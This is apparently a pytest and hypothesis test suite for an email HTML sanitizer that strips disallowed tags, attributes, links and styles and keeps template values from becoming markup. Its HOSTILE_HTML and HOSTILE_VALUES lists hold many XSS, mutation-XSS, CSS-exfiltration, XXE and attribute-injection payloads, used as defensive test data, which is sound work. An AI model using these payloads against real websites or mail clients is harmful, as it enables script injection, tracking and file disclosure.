"""HTML for mails: whatever a text, a template or a value holds, nothing is in it but what mails need."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from app.delivery import markup
from app.delivery.markup import FieldInAddress, TooMuchHtml
from app.delivery.template import UnknownField
from app.errors import Refusal

# What may be in a mail, said once more and apart from the program.
TAGS = set(
    """a abbr b big blockquote br caption center cite code col colgroup dd del div dl dt em font
    h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p q s samp small span strike strong sub sup table tbody td tfoot
    th thead tr tt u ul""".split()  # noqa: SIM905
)
PAGE = {"html", "head", "meta", "body"}
ATTRIBUTES = set(
    """align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang nowrap role
    rowspan scope size span src start style title type valign width""".split()  # noqa: SIM905
)
HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<img src="jav&#x09;ascript:alert(1);">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=/etc/passwd><img src=file:///etc/passwd><img src=//evil.example/x.png>",
    '<img src="https://x.example/{{email}}.png" width="1">',
    '<img lowsrc="https://x.example/a" dynsrc="https://x.example/b" srcset="https://x.example/c 2x">',
    "<svg onload=alert(1)><svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:{{survey_link}}'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a><a href='/x'>x</a><a href='#x'>x</a><a href='x.html'>x</a>",
    "<a href='ftp://x.example'>x</a><a href='tel:1'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_blank ping=https://y.example>x</a>",
    "<a href='https://x.example/\u202egnp.exe'>x</a>",
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<applet code=x></applet><audio src=x><video poster=x><source src=x></video>",
    "<form action=https://evil.example><input name=p type=password><button formaction=x>x</button></form>",
    "<isindex action=javascript:alert(1)><textarea></textarea><select><option>x</select>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url('https://evil.example/x')\">x</p>",
    '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    "<p style=\"background-image:image-set('https://evil.example/x' 1x)\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x)">x</p>',
    '<p style="color:red;/*</p>*/behavior:url(x)">x</p>',
    "<p style=\"@import 'https://evil.example/x'\">x</p>",
    '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    '<p style="color:var(--x)">x</p>',
    "<body onload=alert(1) background=https://evil.example/x>",
    "<table background=https://evil.example/x><td background='javascript:alert(1)'>x",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php system('x') ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<p id=x name=y class=z onmouseover=alert(1) autofocus tabindex=1 contenteditable>x</p>",
    "<p title='\" onmouseover=alert(1) x=\"'>x</p>",
    "<p title='{{email}}' lang='{{email}}'>x</p>",
    "<b\x00><scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#123;{email}} &#123;&#123;email&#125;&#125; {<!-- -->{email}}",
    "<a href=https://x><table><a href=https://y>z",
]
HOSTILE_VALUES = [
    "<b>bold</b>",
    "</p><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" href="javascript:alert(1)',
    "{{survey_link}}",
    "}}{{email",
    "&lt;b&gt;&amp;",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://x.example/"onmouseover="alert(1)',
    "https://x.example/ onmouseover=alert(1)",
    "https://x.example/'><script>alert(1)</script>",
    "//evil.example",
    "file:///etc/passwd",
    "<!--",
    "]]>",
    "-->",
    "<style>",
    "\u202eevil",
    "a\nb",
    "a\0b",
    "",
]
PIECES = [
    *"<>/=\"'&;{} \n-!",
    *(
        "<p>",
        "</p>",
        "<a href=https://x.example>",
        "</a>",
        "<table>",
        "<td>",
        "</td>",
        "</table>",
        "<b>",
        "</b>",
    ),
    *(
        "<div style='color:red;",
        "<li>",
        "<ul>",
        "<svg>",
        "<math>",
        "<style>",
        "<title>",
        "<select>",
        "<!--",
        "-->",
    ),
    *("{{email}}", "{{survey_link}}", "<a href='{{survey_link}}'>", "<a href='{{email}}'>", "<h1>", "<nobr>"),
    *(
        "&#123;",
        "&lt;",
        "&nbsp;",
        "onclick=x",
        "javascript:",
        "url(",
        "text",
        "é",
        "<br>",
        "<hr>",
        "<img src=",
    ),
]
TEMPLATES = st.one_of(
    st.lists(st.sampled_from([*HOSTILE_HTML, *PIECES]), max_size=12).map("".join),
    st.lists(st.sampled_from(PIECES), max_size=40).map("".join),
    st.text(max_size=60),
)
VALUES = st.sampled_from(HOSTILE_VALUES) | st.text(max_size=40)
FIELDS = ("email", "first_name", "survey_link", "unsubscribe")


class Reader(HTMLParser):
    """Another's reading of some HTML: its tags, its attributes, its text and where its links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.links: list[str | None] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag == "a":
            self.links.append(dict(attrs).get("href"))
        if tag in ("br", "p"):
            self.text += {"br": "", "p": "\n"}[tag]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        if decl != "DOCTYPE html":
            self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def assert_harmless(html: str, *, page: bool = False) -> Reader:
    read = Reader(html)
    assert read.tags <= (TAGS | PAGE if page else TAGS)
    assert not read.other
    for tag, name, value in read.attributes:
        if tag == "meta":
            assert (name, value) == ("charset", "utf-8")
            continue
        assert name in ATTRIBUTES
        if name == "href":
            assert tag == "a"
            assert value == "{{survey_link}}" or urlsplit(value).scheme in ("http", "https", "mailto")
        elif name == "src":
            assert tag == "img"
            assert urlsplit(value).scheme in ("http", "https")
        else:
            assert "{{" not in value
            assert "}}" not in value
        if name in ("href", "src"):
            assert value.isprintable()
            assert not set(' "<>') & set(value)
        if name == "style":
            assert not re.search(r"url|expression|import|position|behavior|binding|[\\@{}<>&*]", value)
            assert set(re.findall(r"([\w-]+)\(", value)) <= {"rgb", "rgba", "hsl", "hsla"}
    return read


class TestClean:
    @pytest.mark.parametrize("html", HOSTILE_HTML)
    def test_U1_nothing_hostile_is_left(self, html: str) -> None:
        assert_harmless(markup.clean(html))
        assert_harmless(markup.clean(f"<table><tr><td>{html}</td></tr></table><p>{html}"))

    @given(TEMPLATES)
    def test_U1_whatever_it_is_given(self, html: str) -> None:
        try:
            cleaned = markup.clean(html)
        except FieldInAddress:
            return
        assert_harmless(cleaned)
        assert markup.clean(cleaned) == cleaned

    @pytest.mark.parametrize(
        "html",
        [
            "Hello {{first_name}}, <b>{{ first_name }}</b>",
            '<a href="{{survey_link}}">{{survey_link}}</a>',
            '<a href="https://shop.example/?a=1&amp;b=%C3%A9#x" title="Shop">Shop</a>',
            '<a href="mailto:stop@shop.example?subject=stop">Stop</a>',
            '<img src="https://shop.example/logo.png" alt="Shop" width="100" height="50">',
            '<table role="presentation" width="600" bgcolor="#ffffff" cellpadding="0"><tbody><tr>'
            '<td align="center" colspan="2" valign="top">x</td></tr></tbody></table>',
            "<p style=\"color:#333;background:#fff;font-family:'Segoe UI', Arial;margin:0 !important\">x</p>",
            '<p style="color:rgba(0, 0, 0, .5);padding-left:1.5em;border-top:1px solid #ccc">x</p>',
            '<h1 lang="fr" dir="ltr">Titre</h1><ul><li>un</li></ul><hr><font color="red" size="2">x</font>',
            "1 &lt; 2 &amp; 3 &gt; 2 é 👨\u200d👩\u200d👧",
            "",
        ],
    )
    def test_what_mails_need_is_not_changed(self, html: str) -> None:
        assert markup.clean(html) == html

    @pytest.mark.parametrize(
        "href",
        [
            "{{survey_link}}",
            " {{ survey_link }} ",
            "https://{{survey_link}}",
            "http://{{ survey_link }}/",
            "%7B%7Bsurvey_link%7D%7D",
            "https://%7b%7b%20survey_link%20%7d%7d/",
            "&#123;&#123;survey_link&#125;&#125;",
        ],
    )
    def test_a_link_to_the_survey_is_understood_however_an_editor_wrote_it(self, href: str) -> None:
        assert markup.clean(f"<a href='{href}'>x</a>") == '<a href="{{survey_link}}">x</a>'

    @pytest.mark.parametrize(
        "href",
        [
            "{{email}}",
            "{{Survey-Link}}",
            "https://shop.example/?e={{email}}",
            "https://shop.example/?u={{survey_link}}",
            "{{survey_link}}?e={{email}}",
            "mailto:{{email}}",
            "{{survey_link",
            "https://shop.example/}}",
        ],
    )
    def test_any_other_field_in_the_address_of_a_link_is_refused_by_that(self, href: str) -> None:
        with pytest.raises(FieldInAddress) as refused:
            markup.clean(f'<p>a</p><a href="{href}">x</a>')
        assert refused.value.values == {"address": href}
        assert "{{survey_link}}" in str(refused.value)

    def test_the_page_around_it_is_left_out(self) -> None:
        page = (
            "<!DOCTYPE html><html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>"
        )
        assert markup.clean(page) == "<p>x</p>"

    def test_half_characters_are_left_out(self) -> None:
        assert markup.clean("a\ud800b") == "ab"

    @pytest.mark.parametrize(
        "html",
        [
            "x" * (markup.LONGEST + 1),
            "<b>" * (markup.MOST_TAGS + 1),
            "<b>" * markup.MOST_TAGS,  # closing them makes it more
            "<div>" * (markup.LONGEST // 5),
        ],
    )
    def test_too_much_is_refused_before_it_takes_long(self, html: str) -> None:
        with pytest.raises(TooMuchHtml) as refused:
            markup.clean(html)
        assert "200000 characters" in str(refused.value)

    def test_what_never_comes_to_rest_is_refused(self, monkeypatch: pytest.MonkeyPatch) -> None:
        tangled = "<a href=https://x><table><a href=https://y>z"
        assert markup.clean(tangled) == markup.clean(markup.clean(tangled))
        monkeypatch.setattr(markup, "_ROUNDS", 1)
        with pytest.raises(TooMuchHtml):
            markup.clean(tangled)


class TestFill:
    @given(TEMPLATES, VALUES, VALUES, VALUES)
    def test_U1_no_value_becomes_markup(self, template: str, name: str, link: str, unsubscribe: str) -> None:
        harmless = {"email": "a", "first_name": "b", "survey_link": "https://s.example/", "unsubscribe": "c"}
        values = {"email": name, "first_name": name, "survey_link": link, "unsubscribe": unsubscribe}
        try:
            expected = Reader(markup.fill(template, harmless))
        except Refusal:
            assume(False)
        read = assert_harmless(markup.fill(template, values), page=True)
        assert read.tags == expected.tags
        assert [(tag, name) for tag, name, _ in read.attributes if name != "href"] == [
            (tag, name) for tag, name, _ in expected.attributes if name != "href"
        ]
        assert len(read.links) == len(expected.links)
        for there, here in zip(expected.links, read.links, strict=True):
            assert here in (None, link) if there == "https://s.example/" else here == there

    @given(VALUES)
    @example("https://x.example/?a=1&b=é")
    def test_a_value_is_read_as_it_is(self, value: str) -> None:
        assume("\r" not in value)  # read as \n
        assume("\0" not in value)
        read = Reader(markup.fill("<p>{{email}}|{{ first_name }}</p>", {"email": value, "first_name": value}))
        assert f"{value}|{value}" in read.text

    def test_a_link_leads_where_the_value_says(self) -> None:
        template = '<a href="{{survey_link}}">Go</a> <a href="https://shop.example/">Shop</a>'
        link = "https://s.example/?t=1&lt=2&amp;=3&name='é'"
        assert Reader(markup.fill(template, {"survey_link": link})).links == [link, "https://shop.example/"]

    @pytest.mark.parametrize("value", [each for each in HOSTILE_VALUES if not each.startswith("https://x")])
    def test_U1_a_link_whose_value_is_no_address_leads_nowhere(self, value: str) -> None:
        read = Reader(markup.fill('<a href="{{survey_link}}">Go</a>', {"survey_link": value}))
        assert read.links == [None]
        assert read.text.strip() == "Go"

    def test_a_text_that_looks_like_a_link_stays_a_text(self) -> None:
        values = {"survey_link": 'https://s.example/"><b>', "email": '"<b>'}
        filled = markup.fill('<p>x href="{{survey_link}}" href="{{email}}"</p>', values)
        read = assert_harmless(filled, page=True)
        assert read.tags == {"p", *PAGE}
        assert not read.links

    def test_braces_in_a_value_mean_nothing(self) -> None:
        values = {"email": "{{first_name}} {{nope}} {{", "first_name": "x"}
        assert "{{first_name}} {{nope}} {{|x" in markup.fill("{{email}}|{{first_name}}", values)

    def test_what_was_not_cleaned_is_cleaned(self) -> None:
        assert_harmless(markup.fill("<script>{{email}}</script><p onclick='{{email}}'>", {}), page=True)

    def test_an_unknown_field_is_refused_by_its_name(self) -> None:
        with pytest.raises(UnknownField) as refused:
            markup.fill("{{email}} {{nope}}", {"email": "x"})
        assert refused.value.values == {"field": "nope"}


class TestFromText:
    @given(st.text() | st.lists(st.sampled_from([*HOSTILE_VALUES, *HOSTILE_HTML, "\n", "\n\n"])).map("".join))
    @example("Hello\n\nworld\nagain\n\n\n\nbye  \n \n ")
    def test_U1_reads_like_the_text_and_has_no_markup_of_its_own(self, text: str) -> None:
        assume("\0" not in text)
        html = markup.from_text(text)
        read = assert_harmless(html, page=True)
        assert read.tags <= {"div", "p", "br", "a", *PAGE}
        lines = [line.strip() for line in text.splitlines()]
        assert "".join(read.text.split()) == "".join("".join(lines).split())
        blocks = re.split(r"\n\s*\n", "\n".join(text.strip().splitlines()))
        assert html.count("<p>") == len(blocks)
        assert html.count("<br>") == sum(block.count("\n") for block in blocks)

    @pytest.mark.parametrize(
        ("text", "link"),
        [
            ("See https://x.example/a?b=1&c=2#d.", "https://x.example/a?b=1&c=2#d"),
            ("See HTTP://X.example", "HTTP://X.example"),
            ("(https://x.example/)", "https://x.example/"),
            ("(see https://x.example/a_(b))", "https://x.example/a_(b)"),
            ("https://x.example/a_(b)_(c(d))).", "https://x.example/a_(b)_(c(d))"),
            ("<https://x.example/>", "https://x.example/"),
            ('"https://x.example/"', "https://x.example/"),
            ("« https://x.example/ » ou «https://x.example/»", "https://x.example/"),
            ("Ici : https://bücher.example/é ?", "https://bücher.example/é"),
            ("https://x.example/,\nhttps://x.example/;", "https://x.example/"),
            ("mailto:stop@x.example?subject=stop&body=x.", "mailto:stop@x.example?subject=stop&body=x"),
            ("https://x.example/_", "https://x.example/_"),
            ("https://x.example/'\"><script>alert(1)</script>", "https://x.example/"),
        ],
    )
    def test_addresses_become_links_without_what_is_around_them(self, text: str, link: str) -> None:
        read = assert_harmless(markup.from_text(text), page=True)
        assert set(read.links) == {link}
        assert "".join(read.text.split()) == "".join(text.split())

    @pytest.mark.parametrize(
        "text",
        [
            "javascript:alert(1)",
            "ftp://x.example",
            "file:///etc/passwd",
            "xhttps://x.example",
            "https://",
            "https:// x",
            "http:x.example",
            "mailto:",
            "mailto:nobody",
            "https://x.example/\u202egnp.exe",
            "https://x.example/\u200b",
            "https://x.example/\x1b",
            "www.x.example",
            "jean@x.example",
            "{{survey_link}}",
        ],
    )
    def test_nothing_else_becomes_a_link(self, text: str) -> None:
        read = Reader(markup.from_text(text))
        assert not read.links
        assert read.text.strip() == text

    @given(
        st.lists(st.sampled_from(["Hello & <bye>", "\n", "\n\n", " ", "https://x.example/?a&b", "é'\"", "."]))
    )
    def test_is_clean_already(self, pieces: list[str]) -> None:
        html = markup.from_text("".join(pieces))
        fragment = html.partition("<body>\n")[2].partition("\n</body>")[0]
        assert markup.clean(html).strip() == fragment

    def test_U2_loads_nothing_and_has_no_colours_against_a_dark_screen(self) -> None:
        read = Reader(markup.from_text("Hello https://x.example/logo.png"))
        assert {name for _, name, _ in read.attributes} <= {"charset", "dir", "style", "href"}
        assert not any("color" in value or "background" in value for _, _, value in read.attributes)

    @pytest.mark.parametrize("unit", ["https://", "https://x(", ")", "mailto:", "\n", " \n", "a@", "<", "{{"])
    def test_long_texts_take_time_by_their_length(self, unit: str) -> None:
        assert markup.from_text("https://x" + unit * (400_000 // len(unit)))


@given(st.text())
def test_U1_an_escaped_value_is_text(value: str) -> None:
    escaped = markup.escape(value)
    assert not set("<>\"'") & set(escaped)
    assume(not set("\0\r") & set(value))
    assert Reader(escaped + " ").text == value + " "
    assert Reader(f'<p title="{escaped}">').attributes == [("p", "title", value)]
